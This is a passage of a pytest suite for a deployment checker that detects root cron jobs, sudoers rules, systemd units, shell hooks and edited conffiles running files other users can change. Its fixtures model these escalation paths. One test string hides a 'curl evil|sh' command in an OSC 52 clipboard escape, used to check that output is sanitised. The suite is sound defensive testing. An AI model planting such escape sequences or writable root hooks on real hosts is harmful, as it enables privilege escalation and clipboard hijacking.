        "/root/.local/lib/python3.11/site-packages/dev.pth": {"st": [F | 0o644, 0, 0, 0, 0, 0],
                                                             "data": f"{tmp_path}/checkout\n"},
        # root's sudoers: a rule's fixed argument (the CI account's archive root extracts)
        "/etc/sudoers.d/ci": {"st": [F | 0o440, 0, 0, 0, 0, 0],
                              "data": f"ci ALL=(root) NOPASSWD: /usr/bin/tar -xzf {tmp_path}/ci/app.tgz\n"},
        # attack10: a sudo command followed by sudo's list separator, and what root's shell startup files name
        "/etc/sudoers.d/ops": {"st": [F | 0o440, 0, 0, 0, 0, 0],
                               "data": f"ops ALL=(root) NOPASSWD: {tmp_path}/tools/jobsh, /usr/bin/id\n"
                                       f"ops ALL=(root) NOPASSWD:{tmp_path}/tag, !{tmp_path}/neg\n"
                                       f"ops ALL=(root){tmp_path}/runas\n"},
        "/var/spool/cron/crontabs/root2": {"st": [F | 0o600, 0, 0, 0, 0, 0], "data": f"PATH=/usr/bin:{tmp_path}/p\n"},
        # root's home: a tool's configuration (git's hooksPath) and a shell startup file sourcing a file
        "/root/.gitconfig": {"st": [F | 0o644, 0, 0, 0, 0, 0], "data": f"[core]\n\thooksPath = {tmp_path}/hooks\n"},
        "/root/.bashrc": {"st": [F | 0o644, 0, 0, 0, 0, 0], "data": f". {tmp_path}/env.sh\n"},
        # root's keys: a forced command is a path word; base64 holds '/' (no word: never lstat'd, nor past the bound)
        "/root/.ssh/authorized_keys": {"st": [F | 0o600, 0, 0, 0, 0, 0],
                                       "data": f'command="{tmp_path}/recv" ssh-ed25519 AAAAC3Nz/b9x+q backup\n'}}}
    collect_root.mapped(out)
    assert f"{tmp_path}/tools/jobsh," not in out["mapped"], out
    # (sudo's 'NOPASSWD:/path', '(root)/path', '!/path'; a PATH entry after ':': each a word of its own)
    assert all(f"{tmp_path}/{n}" in out["mapped"] for n in ("tag", "neg", "runas", "p")), out["mapped"]
    assert out["mapped"][f"{tmp_path}/env.sh"] is None and out["mapped"][f"{tmp_path}/recv"] is None, out
    assert f"{tmp_path}/hooks" in out["mapped"] and not [p for p in out["mapped"] if p.startswith("/b9x")], out
    for path in collect_root.ROOT_FILES:  # each of root's home files, or the walk stopped above it (absent, others')
        up = next(u for u in [path] + [path.rsplit("/", i)[0] for i in range(1, path.count("/"))] if u in out["mapped"])
        assert up == path or out["mapped"][up] is None or out["mapped"][up][1] != 0, (path, up)
    assert out["mapped"][f"{tmp_path}/tools/jobsh"][1] == 0 and out["mapped"][f"{tmp_path}/lib"] is None, out
    assert out["mapped"][str(tmp_path)] and f"{tmp_path}/theirs" not in out["mapped"], out
    assert f"{tmp_path}/checkout" in out["mapped"] and out["mapped"][f"{tmp_path}/ci"] is None, out
    assert ("/root/.local/lib/python3.11/site-packages", 256, False) in collect_root.ROOT_ONLY


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("pid, path, text", [
    ("cw_schedules", "/etc/cron.d/ops-report", "* * * * * root /srv/tools/jobsh\n"),  # shown on a container
    ("cw_schedules", "/etc/cron.d/ops-report", "PYTHONPATH=/srv/tools\n0 3 * * * root /usr/bin/python3 -m r\n"),
    ("cw_schedules", "/etc/profile.d/ops.sh", ". /srv/tools/jobsh\n"),  # a root login hook
    ("cw_root_acts", "/etc/update-motd.d/60-ops", "#!/bin/sh\n/srv/tools/jobsh\n"),  # a place root acts later
])
def test_an_allowance_never_accounts_for_root_running_what_someone_else_may_change(exp, platform, pid, path, text):
    """attack10 (shown on a container: allow_cron = ["/etc/cron.d/ops-report"], the line the gate's own hint
    wrote, for '* * * * * root /srv/tools/report' in the deploy team's directory: the gate passed, and whatever the
    deploy login put there ran as root). Class: an allowance accounting for handing root to someone else; units
    (allow_units) and sudo (allow_sudo) were closed, cron, root's hooks and the places root acts later were not.
    The file stays allowed for what it is; what it runs that someone but root may change fails, with or without
    the allowance, saying that none accounts for it; root's own directory passes allowed."""
    mine = dataclasses.replace(exp, allow=dataclasses.replace(exp.allow, cron=(path,)))
    for allowance in (exp, mine):
        facts = host(platform, {path: (F | 0o755, 0, text), **TOOLS}, {path.rsplit("/", 1)[0]: [path.rsplit("/")[-1]]})
        facts.remote["inventory"]["root_hooks"] = parse.root_hooks(facts.raw)
        msg = fails(pid, facts, allowance)
        assert "/srv/tools" in msg and "no allowance accounts for handing root's rights to someone else" in msg, msg
        assert ("accounts for the file, not for that" in msg) == (allowance is mine), msg
    rooted = host(platform, {path: (F | 0o755, 0, text), "/srv/tools": (D | 0o755, 0, None),
                             "/srv/tools/jobsh": (F | 0o755, 0, None)},
                  {path.rsplit("/", 1)[0]: [path.rsplit("/")[-1]]})
    rooted.remote["inventory"]["root_hooks"] = parse.root_hooks(rooted.raw)
    assert outcome(pid, rooted, mine) == "pass"


def _conffile_of(facts, path: str, original: str, edited: str):
    """``path`` a conffile of a package 'ops-tools' (dpkg's md5 of ``original``), its bytes now ``edited``, its
    inode older than the package's list: dpkg kept the admin's edit through the upgrade that rewrote the list."""
    import hashlib

    status = facts.raw.files["/var/lib/dpkg/status"]
    status["data"] += (f"\nPackage: ops-tools\nStatus: install ok installed\nConffiles:\n {path} "
                       f"{hashlib.md5(original.encode()).hexdigest()}\n")
    listed = "/var/lib/dpkg/info/ops-tools.list"
    facts.raw.files[listed] = {"st": [F | 0o644, 0, 0, 0, 0, 7, 2000.0], "data": f"/etc\n{path}\n", "ctime": 2000.0}
    facts.raw.dirs["/var/lib/dpkg/info"] = sorted(set(facts.raw.dirs.get("/var/lib/dpkg/info", [])) |
                                                  {"ops-tools.list"})
    facts.raw.files[path] = {"st": [F | 0o755, 0, 0, len(edited), 0, 9, 1000.0], "data": edited, "ctime": 1000.0}
    for cache in ("dpkg_conffiles", "acts_view", "dpkg", "dpkg_lists"):
        if hasattr(facts.raw, cache):
            setattr(facts.raw, cache, None)


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("path, original, edited, job", [
    # shown on a container: e2fsprogs' /etc/cron.d/e2scrub_all edited, then 'apt-get install --reinstall
    # e2fsprogs' (or any upgrade of it) kept the edit and rewrote the list: the gate passed
    ("/etc/cron.d/ops-tools", "0 3 * * * root /usr/bin/true\n", "0 3 * * * root /usr/bin/true\n"
     "* * * * * root /srv/tools/jobsh\n", None),
    # the same conffile as a root script a root job runs (its lines are read unless it is the package's)
    ("/etc/ops-tools/nightly", "#!/bin/sh\n/usr/bin/true\n", "#!/bin/sh\n. /srv/tools/jobsh\n/usr/bin/true\n",
     ("/etc/cron.d/nightly", "0 3 * * * root /etc/ops-tools/nightly\n"))])
def test_an_edited_conffile_is_no_packages_file_whatever_its_ctime(exp, platform, path, original, edited, job):
    """attack10: a conffile dpkg kept through an upgrade (the admin's edit: dpkg never replaces it) has an inode
    older than its package's list, which the upgrade rewrote; 'as dpkg unpacked it' read that as the package's
    file (the stock baseline), so its job running the deploy team's script passed. Class: a package's file told by
    a proxy the package manager itself defeats: a conffile is the package's only by dpkg's md5."""
    files = {**TOOLS, **({job[0]: (F | 0o644, 0, job[1])} if job else {})}
    facts = host(platform, files)
    _conffile_of(facts, path, original, edited)
    msg = fails("cw_schedules", facts, exp)
    assert "/srv/tools" in msg and "which someone but root may change" in msg, msg
    facts = host(platform, files)
    _conffile_of(facts, path, original, original)
    assert "/srv/tools" not in str(outcome("cw_schedules", facts, exp))  # the package's own: the baseline


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("allowed", [False, True])
def test_a_root_unit_running_what_the_app_user_writes_is_one_line_no_allowance_answers(exp, platform, allowed):
    """blind11, class 1's other member: a root unit (allowed or not) running a script in the app's shared dirs.
    On the blind code the allowed unit passed; after the class fix, the unrestricted one said it twice (the unit
    reaching the app's tree, naming allow_units, and what it runs). One line, naming no allowance: the app user
    writes there."""
    path = "/etc/systemd/system/app-report.service"
    text = f"[Service]\nExecStart=/bin/sh {ROOT}/shared/data/report.sh\n"
    mine = dataclasses.replace(exp, allow=dataclasses.replace(exp.allow, units=("app-report.service",))) if \
        allowed else exp
    msg = fails("cw_units", host(platform, {path: (F | 0o644, 0, text)}), mine)
    ours = [ln for ln in msg.splitlines() if "app-report" in ln and ln.lstrip().startswith("- ")]
    assert len(ours) == 1 and "the app user writes its shared dirs" in ours[0] and "allow_units =" not in ours[0] \
        and "remove it, or make what it runs root's alone" in ours[0], ours


REPORT_UNIT = ("[Service]\nType=oneshot\n{user}WorkingDirectory=/var/www/yourapplication/shared/data\n"
               "ExecStart=/var/www/yourapplication/current/venv/bin/python -m flask --app yourapplication init-data\n")


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("user", ["", "User=root\n", "User=0\n", "User=yourapplication\nUser=\n"])
def test_an_allowed_unit_that_runs_the_apps_tree_as_root_fails_whatever_is_allowed(exp, platform, user):
    """blind12b: allow_units accounted for a report unit of the app's written with User=yourapplication; a hand edit
    deleting that line made systemd run it as root (its ExecStart the release's python, its working directory the
    app's shared data: ``python -m`` puts that directory first on sys.path, so the app user's files ran as root)
    and the gate passed. The '+'/'!' prefixes were the only way "as root all the same" was judged; no User=,
    User=root, User=0 or a later empty User= (the default again) are the same: root runs code the deploy login or
    the app can change, which no allowance accounts for."""
    path = "/etc/systemd/system/app-report.service"
    mine = dataclasses.replace(exp, allow=dataclasses.replace(exp.allow, units=("app-report.service",)))
    msg = fails("cw_units", host(platform, {path: (F | 0o644, 0, REPORT_UNIT.format(user=user))}), mine)
    assert "app-report.service" in msg and "as root" in msg and "no allowance accounts for it" in msg, msg
    as_app = host(platform, {path: (F | 0o644, 0, REPORT_UNIT.format(user="User=yourapplication\n"))})
    assert "app-report.service" not in str(outcome("cw_units", as_app, mine))  # the allowed unit as written


def test_a_path_a_process_names_costs_root_and_the_runner_a_bounded_walk():
    """A process of the deploy user (or the app's code, as the app user) may name any path in its environment: a
    64 KiB one of ``/.`` under a directory of root's. The root collector lstat'ed every level (2047), after building
    all 32,700 first: 1 GiB and 171 s in root's process on a real container, past the probe's bound (every fact of
    root's lost). Now at most 63 levels of its first 4096 bytes (PATH_MAX); the runner's walk of what the collector
    recorded cuts each level as it goes, and names level 64 as not looked at."""
    import tracemalloc

    from deploytests.verify import collect_root

    path = "/usr" + "/." * 32700
    out = {"proc": {"7": {"exe": None, "maps": None, "environ": "X=" + path}}, "errors": {}, "mapped": {}, "files": {},
           "size": 0}
    collect_root.mapped(out)
    deep = [p for p in out["mapped"] if p.startswith("/usr/.")]
    assert deep and max(p.count("/") for p in deep) <= 63 and len(deep) <= 62, (len(deep), max(map(len, deep)))
    tracemalloc.start()
    loose = parse._loose_mapped(None, out["mapped"], path[:12000])  # type: ignore[arg-type]
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert loose == "/usr" + "/." * 63 + " (not looked at)", loose
    assert peak < 4 << 20, peak  # (every level first: 40 MB for these 12 KB, 1 GiB for the 64 KiB)


def test_the_walks_of_what_processes_name_spend_the_replys_budget():
    """The other member of the budget's class: each path a process names costs up to 63 entries of ``mapped`` (63
    levels of ``/.``, each a distinct name of a root directory): 4096 of them added ~30 MB to a reply already at the
    budget, past the runner's 64 MiB. Each path walked now takes 8 KiB of what is left; past it the bound is named."""
    from deploytests.verify import collect_root

    paths = ":".join("/usr" + "".join("/." if k >> i & 1 else "/" for i in range(12)) + "/." * 50 for k in range(4096))
    out = {"proc": {"7": {"exe": None, "maps": None, "environ": "X=" + paths}}, "errors": {}, "mapped": {},
           "files": {}, "size": collect_root.BIG - (1 << 20)}
    collect_root.mapped(out)
    assert out["errors"].get("mapped files") == "more than 128: the rest not looked at", out["errors"]
    assert len(json.dumps(out["mapped"])) < 1 << 20, len(json.dumps(out["mapped"]))
    out.update(mapped={}, errors={}, size=collect_root.BIG + (6 << 20))  # (past it: one read may overshoot)
    collect_root.mapped(out)
    assert out["errors"].get("mapped files") == "more than 0: the rest not looked at" and not out["mapped"], out


# ---------------------------------------------------------------- what reaches the admin's terminal

HOSTILE = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\r\n- pid 1 (root) nothing else to see"  # (OSC 52: the clipboard)


@pytest.mark.parametrize("platform", PLATFORMS)
def test_no_rule_puts_a_control_or_a_line_of_the_kernels_proc_text_on_the_admins_terminal(exp, platform):
    """Class: server text a rule quotes from the raw snapshot (``Facts.raw``: root's ``/proc`` reads, not made
    safe) printed as it is. A directory the deploy login named in its tree with an OSC 52 sequence (a write to the
    admin's clipboard: ``curl evil|sh``) and a newline, the working directory of a root process (a tmux pane, a
    job): ``cw_processes`` printed both raw to the admin's terminal, the clipboard written and a line of its own
    faked. Every rule's message is now made safe where it leaves ``verify`` (controls escaped, its own lines kept),
    and the process rule quotes those names as one line. Other members: the process's executable, a file it holds
    open, its command line, environment and maps; a root process and Apache's user's."""
    root = "/var/www/yourapplication"
    facts = host(platform)
    stat_line = "{pid} (x) S 1 {pid} {pid} 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 900 " + "0 " * 30
    for pid, uid, where in ((4344, 0, f"{root}/{HOSTILE}"), (4345, 0, "/"), (4347, 33, f"{root}/{HOSTILE}")):
        facts.raw.raw["proc"][str(pid)] = {
            "uid": uid, "stat": stat_line.format(pid=pid), "status": f"Uid:\t{uid}\t{uid}\t{uid}\t{uid}\n",
            "cmdline": f"/usr/bin/python3\0{root}/{HOSTILE}\0", "exe": where, "cwd": where, "sockets": [],
            "open": [f"{root}/o{HOSTILE}"], "environ": f"PYTHONPATH={root}/{HOSTILE}\0", "cgroup": "0::/\n",
            "maps": f"7f00-7f01 r-xp 00000000 08:01 12 {root}/lib{HOSTILE}.so\n"}
    said = {pid: outcome(pid, copy.deepcopy(facts), exp) for pid in promises.BY_ID}
    assert said["cw_processes"].startswith("fail: ") and "its working directory is" in said["cw_processes"]
    for pid, text in said.items():
        assert not set(text) & {"\x1b", "\x07", "\r"} and "\n- pid 1 (root) nothing" not in text, (pid, text)
    assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in said["cw_processes"]  # shown, never acted on


def test_what_a_rule_says_leaves_verify_made_safe(exp, monkeypatch):
    """The class closed where every rule's message passes: a failure's and a skip's text, its lines kept."""
    def rule(facts, exp):
        raise AssertionError(f"two lines:\n- one names {HOSTILE}")

    monkeypatch.setitem(promises.CHECKS, "cw_listen", rule)
    said = outcome("cw_listen", host("debian12"), exp)
    assert said == "fail: two lines:\n- one names x\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J\n- pid 1 (root) nothing " \
                   "else to see", said  # (\r\n is a newline: a rule's own line may not be told from it)
    monkeypatch.setitem(promises.CHECKS, "cw_listen", lambda f, e: (_ for _ in ()).throw(promises.NotApplicable(
        "not here: \x9b2J")))
    assert outcome("cw_listen", host("debian12"), exp) == "skip: not here: \\x9b2J"
